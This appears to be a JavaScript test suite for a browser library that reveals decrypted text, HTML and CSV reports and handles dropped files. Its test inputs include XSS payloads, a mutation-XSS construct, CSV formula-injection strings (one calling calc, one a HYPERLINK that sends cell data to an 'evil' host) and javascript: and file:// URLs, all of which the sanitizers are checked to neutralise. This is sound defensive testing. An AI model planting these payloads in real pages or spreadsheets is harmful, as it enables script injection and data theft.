// Text, HTML and CSV that are no part of the page, and the drop target that opens them as files.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { inPage, pageTest } from "./harness.mjs";

inPage("a text gets its words; what cannot be revealed stays; a worker is waited for", async () => {
  const owner = new bt.FakeWorker();
  const [app, title, foreign] = [owner.token("winword.exe", 1), owner.token("Report", 2), owner.refused()];
  const text = `Used ${app} (${title}), ${app}; ${foreign}.`;
  const promise = bt.revealText(text, owner);
  while (owner.pending.length === 0) await observed();
  owner.next();
  const shown = await promise;
  const sync = new bt.FakeOwner();
  sync.words = owner.words;
  const limited = await bt.revealText(text, sync, { classes: ["title"] });
  const few = await bt.revealText(text, sync, { maxDistinctTokens: 1 });
  const rejected = bt.revealText(text, owner).catch(({ code }) => code);
  while (owner.pending.length === 0) await observed();
  owner.fail(new bt.BlindtallyError("wasm.disposed", "disposed"));
  return {
    shown: shown.replace(foreign, "F"), limited: limited.replaceAll(app, "A").replace(foreign, "F"), few: few.replace(title, "T").replace(foreign, "F"),
    asked: owner.calls[0].length, rejected: await rejected, option: await bt.revealText("", sync, { classes: ["no"] }).catch(({ code }) => code),
  };
}, (result) => assert.deepEqual(result, {
  shown: "Used winword.exe (Report), winword.exe; F.", limited: "Used A (Report), A; F.", few: "Used winword.exe (T), winword.exe; F.",
  asked: 3, rejected: "wasm.disposed", option: "page.option",
}));

inPage("a reader reveals a text from its own memory, and not when it was locked meanwhile", async () => {
  const owner = new bt.FakeOwner();
  const token = owner.token("word");
  document.body.textContent = token;
  const reader = bt.readPage(document, owner);
  const text = await reader.revealText(`<${token}>`);
  const calls = owner.calls.length;
  const late = reader.revealText(token).catch(({ code }) => code);
  reader.lock();
  return { text, calls, late: await late };
}, (result) => assert.deepEqual(result, { text: "<word>", calls: 1, late: "page.locked" }));

inPage("a text of ten million characters is revealed in slices", async () => {
  const owner = new bt.FakeOwner();
  const line = Array.from({ length: 1000 }, (_, i) => owner.token(`word ${i}`)).join(" ") + "\n";
  const turns = countTurns();
  const shown = await bt.revealText(line.repeat(Math.ceil(1e7 / line.length)), owner);
  return { turns: turns.count, left: shown.includes("bt1_"), start: shown.slice(0, 13) };
}, ({ turns, ...rest }) => {
  assert.ok(turns > 2, `${turns} turns`);
  assert.deepEqual(rest, { left: false, start: "word 0 word 1" });
});

inPage("an HTML report keeps its structure and its words, and nothing that acts, loads, styles or names", async () => {
  const owner = new bt.FakeOwner();
  const [word, markup] = [owner.token("winword.exe", 1, 64), owner.token("<img src=/pixel onerror=alert(1)><b>&amp;", 1, 64)];
  const fragment = await bt.revealHtmlFragment(`<!DOCTYPE html><html><head><title>${word}</title><link rel=stylesheet href=/x.css><style>p{color:red}</style></head>
    <body onload="document.title='ran'"><h1 id=h class=c style="color:red" onclick="alert(1)" dir=rtl>Report</h1>
    <table width=5><tr><td colspan=2 title="${word}">${word}</td><td>${markup}</td></tr></table><p>${word.slice(0, 9)}<!-- -->${word.slice(9)}</p>
    <custom-element>kept <b>text</b></custom-element><a href="https://example.org/${word}" ping="/p">${word}</a>
    <img src=/pixel onerror="document.title='ran'"><script>document.title='ran'</script><iframe srcdoc="x"></iframe><svg><script>1</script><text>gone</text></svg>
    <form action=/x>form text<input value=1><textarea>${word}</textarea><button>press</button></form><template><p>gone</p></template><noscript>gone</noscript>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/pixel onerror=alert(1)&gt;"></table></mtext></math><meta http-equiv=refresh content="0;url=/x">`, owner);
  const holder = document.createElement("div");
  holder.append(fragment);
  document.body.append(holder);
  return { html: holder.innerHTML.replace(/\s+/g, " ").trim(), title: document.title, hasToken: holder.innerHTML.includes("bt1_") };
}, ({ html, title, hasToken }) => {
  assert.equal(title, "Report");
  assert.equal(hasToken, false);
  assert.equal(html, '<h1 dir="rtl">Report</h1> <table><tbody><tr><td colspan="2">winword.exe</td><td>&lt;img src=/pixel onerror=alert(1)&gt;&lt;b&gt;&amp;amp;</td></tr></tbody></table>'
    + "<p>winword.exe</p> kept <b>text</b><a>winword.exe</a> form textpress");
}, { expected: [/inline (style|event handler) violates/] });

inPage("HTML that is too long, too deep or grows is refused; names of properties and cuts anywhere are harmless", async () => {
  const owner = new bt.FakeOwner();
  const word = owner.token("word");
  const code = (html) => bt.revealHtmlFragment(html, owner).then(({ textContent }) => textContent, ({ code }) => code);
  const fonts = Array.from({ length: 100 }, (_, i) => `<font n${i}>`).join("");
  return [
    await code("x".repeat(5e6)), await code("<b>".repeat(100_000)), await code("<div>".repeat(200_000)),
    await code(`<p>${fonts}${"<p>x".repeat(1e5)}`),
    await code(`<form><input name=firstChild><input name=nextSibling><input name=nodeType><input name=localName><p>${word}</p></form>`
      + `<img name=body><form name=body></form>${word}`),
    (await code(`<p>\u{1F512}${word}</p>\r\n`.repeat(1000))).replaceAll("\u{1F512}word\n", "").length,
  ];
}, (result) => assert.deepEqual(result, ["page.too-large", "page.too-large", "page.too-large", "page.too-large", "wordword", 0]));

inPage("a CSV report keeps its form, quotes words that need it, and holds no formula", async () => {
  const owner = new bt.FakeOwner();
  const token = (word) => owner.token(word, 1, 64);
  const text = `\uFEFFapp,title,n\r\n${token("winword.exe")},"${token("a \"quoted\", title")}",5\r\n${token("=cmd|' /C calc'!A0")},${token("two\nlines")},-12.5\r\n`
    + `"=1+1",+SUM(A1),@x\r\n\t=1,${token("-5")},- ${token("x")}\r\nx\r=HYPERLINK(A1),"\n=1",＝1\r\n"unclosed ${token("end")}`;
  const semicolons = `a;b\n${token("x;y")};${token("x,y")}`;
  return [await bt.revealCsv(text, owner), await bt.revealCsv(semicolons, owner), await bt.revealCsv("", owner)];
}, ([commas, semicolons, empty]) => {
  assert.equal(commas, "\uFEFFapp,title,n\r\nwinword.exe,\"a \"\"quoted\"\", title\",5\r\n\"'=cmd|' /C calc'!A0\",\"two\nlines\",-12.5\r\n"
    + "'=1+1,'+SUM(A1),'@x\r\n\"'\t=1\",-5,'- x\r\nx\r'=HYPERLINK(A1),\"'\n=1\",'＝1\r\nunclosed end");
  assert.equal(semicolons, "a;b\n\"x;y\";\"x,y\"");
  assert.equal(empty, "");
});

inPage("a CSV report keeps its cells whatever separator a spreadsheet takes", async () => {
  const owner = new bt.FakeOwner();
  const [app, secret] = [owner.token("x", 1, 64), owner.token("secret", 1, 64)];
  return [
    await bt.revealCsv(`sep=|\napp,word\n${app}|=HYPERLINK("http://evil/"&A2),${secret}`, owner),
    await bt.revealCsv(`app,word\n${app};=HYPERLINK(A2);y,${secret}`, owner),
  ];
}, ([excel, semicolons]) => {
  assert.equal(excel, "\"'sep=|\"\napp,word\n\"x|=HYPERLINK(\"\"http://evil/\"\"&A2)\",secret");
  assert.equal(semicolons, "app,word\n\"x;=HYPERLINK(A2);y\",secret");
});

inPage("a revealed address opens only after a confirmation, and only if it is http or https", async () => {
  const opened = [];
  globalThis.open = (...given) => opened.push(given);
  const asked = [];
  const answer = (value) => (url) => {
    asked.push(url.href);
    return value;
  };
  const results = [await bt.openRevealedUrl("https://example.org/a?b", answer(false)), opened.length, await bt.openRevealedUrl("https://example.org/a?b", answer(Promise.resolve(true)))];
  for (const bad of ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://example.org@evil.example/", "/relative", "bt1_x", ""]) {
    results.push(await bt.openRevealedUrl(bad, answer(true)).catch(({ code }) => code));
  }
  return { results, opened, asked };
}, ({ results, opened, asked }) => {
  assert.deepEqual(results, [false, 0, true, ...Array(7).fill("page.url")]);
  assert.deepEqual(opened, [["https://example.org/a?b", "_blank", "noopener,noreferrer"]]);
  assert.equal(asked.length, 2);
});

/** A drop target in the page, and what it tells, one after the other. */
async function withTarget(page, options = {}) {
  return page.evaluate((given) => {
    const owner = globalThis.owner = new bt.FakeOwner();
    const element = document.body.appendChild(document.createElement("section"));
    const told = globalThis.told = [];
    let wake = () => undefined;
    const tell = (what) => {
      told.push(what);
      wake();
    };
    globalThis.next = async () => {
      while (told.length === 0) await new Promise((resolve) => wake = resolve);
      return told.shift();
    };
    globalThis.target = bt.dropTarget(element, owner, {
      ...given, onOpen: tell, onError: tell, ...(given.backup ? { onBackup: (bytes, name) => tell({ backup: bytes.length, name }) } : {}),
    });
    return { word: owner.token("winword.exe"), evil: owner.token("<script>document.title='ran'</script>", 1, 64), formula: owner.token("=1+1") };
  }, options);
}

const file = (name, text) => ({ name, mimeType: "application/octet-stream", buffer: Buffer.from(text) });
const next = (page) => page.evaluate(async () => {
  const told = await next();
  if (told instanceof Error) return { code: told.code };
  return told.content instanceof DocumentFragment ? { ...told, content: told.textContent ?? told.content.textContent } : told;
});

async function saved(page) {
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save decrypted file" }).click()]);
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), "utf8") };
}

async function choose(page, chosen) {
  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.getByRole("button", { name: "Open encrypted file" }).press("Enter")]);
  await chooser.setFiles(chosen);
}

pageTest("an encrypted file is opened by keyboard, shown as text, and saved decrypted", async (page) => {
  const { word, evil, formula } = await withTarget(page);
  assert.equal(await page.getByRole("button", { name: "Save decrypted file" }).isVisible(), false);
  await choose(page, file("report.txt", `Used ${word}\n${evil}`));
  assert.deepEqual(await next(page), { name: "report.txt", kind: "text", content: "Used winword.exe\n<script>document.title='ran'</script>" });
  assert.equal(await page.getByRole("status").textContent(), "report.txt is decrypted.");
  assert.deepEqual(await saved(page), { name: "report-decrypted.txt", text: "Used winword.exe\n<script>document.title='ran'</script>" });

  await choose(page, file("report.csv", `a,b\n${formula},${word}`));
  assert.equal((await next(page)).content, "a,b\n'=1+1,winword.exe");
  assert.equal((await saved(page)).text, "a,b\n'=1+1,winword.exe");

  await choose(page, file("report.html", `<p>${word} ${evil}</p><script>document.title='ran'</script>`));
  assert.equal((await next(page)).content, "winword.exe <script>document.title='ran'</script>");
  const { text } = await saved(page);
  assert.ok(text.includes(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`), text);
  assert.ok(text.includes("<p>winword.exe &lt;script&gt;document.title='ran'&lt;/script&gt;</p></body>"), text);
  assert.equal(await page.title(), "Report");

  await page.evaluate(() => target.lock());
  assert.equal(await page.getByRole("button", { name: "Save decrypted file" }).isVisible(), false);
  await page.evaluate(() => target.disconnect());
  assert.equal(await page.evaluate(() => document.querySelector("section").outerHTML), "<section></section>");
}, { acceptDownloads: true });

pageTest("a file is opened by dropping it; other things that are dragged are left alone", async (page) => {
  const { word } = await withTarget(page);
  const result = await page.evaluate(async (word) => {
    const section = document.querySelector("section");
    const fire = (type, data) => section.dispatchEvent(new DragEvent(type, { dataTransfer: data, cancelable: true, bubbles: true }));
    const text = new DataTransfer();
    text.setData("text/plain", word);
    const ignored = fire("dragover", text);
    const data = new DataTransfer();
    data.items.add(new File([word], "a.txt"));
    const taken = fire("dragover", data);
    const dragging = section.hasAttribute("data-dragging");
    fire("drop", data);
    return { ignored, taken, dragging, after: section.hasAttribute("data-dragging"), content: (await next()).content };
  }, word);
  assert.deepEqual(result, { ignored: true, taken: false, dragging: true, after: false, content: "winword.exe" });
});

pageTest("a file that is too large, of another kind or no UTF-8 is refused with its code, and nothing stays of the one before", async (page) => {
  const { word } = await withTarget(page, { maxBytes: 1000 });
  const open = async (name, bytes) => {
    await page.evaluate(({ name, bytes }) => target.open(new File([new Uint8Array(bytes)], name)), { name, bytes: [...Buffer.from(bytes)] });
    return next(page);
  };
  assert.equal((await open("a.txt", word)).content, "winword.exe");
  assert.deepEqual(await open("a.txt", Buffer.alloc(1001)), { code: "page.too-large" });
  assert.equal(await page.getByRole("button", { name: "Save decrypted file" }).isVisible(), false);
  assert.equal(await page.getByRole("status").textContent(), "The file was not opened: it is larger than what is opened here.");
  assert.deepEqual(await open("a.txt", Buffer.from([0x61, 0xff])), { code: "page.file-encoding" });
  assert.deepEqual(await open("a.exe", word), { code: "page.file-kind" });
  assert.deepEqual(await open("backup.txt.zip", ""), { code: "page.file-kind" });
  // 300 MB are refused for their size, before any of them is read.
  await page.evaluate(() => {
    const huge = new File([], "huge.txt");
    Object.defineProperty(huge, "size", { value: 3e8 });
    for (const read of ["text", "arrayBuffer", "slice", "stream"]) huge[read] = () => { throw new Error("read"); };
    return target.open(huge);
  });
  assert.deepEqual(await next(page), { code: "page.too-large" });
});

pageTest("a backup file is handed on as it is", async (page) => {
  const { testGroups: [{ tests: [{ file: backup }] }] } = JSON.parse(await readFile(new URL("../../../../test-vectors/backup.json", import.meta.url), "utf8"));
  await withTarget(page, { backup: true });
  await choose(page, file("blindtally-backup.txt", `Keep this file.\n\n${backup}`));
  assert.deepEqual(await next(page), { backup: backup.length + 17, name: "blindtally-backup.txt" });
  assert.equal(await page.getByRole("button", { name: "Save decrypted file" }).isVisible(), false);
});

pageTest("of two files opened at once, the last is shown", async (page) => {
  const { word } = await withTarget(page);
  const told = await page.evaluate(async (word) => {
    const first = new File([word], "first.txt");
    const { slice } = first;
    let release;
    const held = new Promise((resolve) => release = resolve);
    first.slice = (...given) => ({ text: async () => {
      await held;
      return slice.apply(first, given).text();
    } });
    const slow = target.open(first);
    await target.open(new File([word], "second.txt"));
    release();
    await slow;
    return told.map(({ name }) => name);
  }, word);
  assert.deepEqual(told, ["second.txt"]);
});
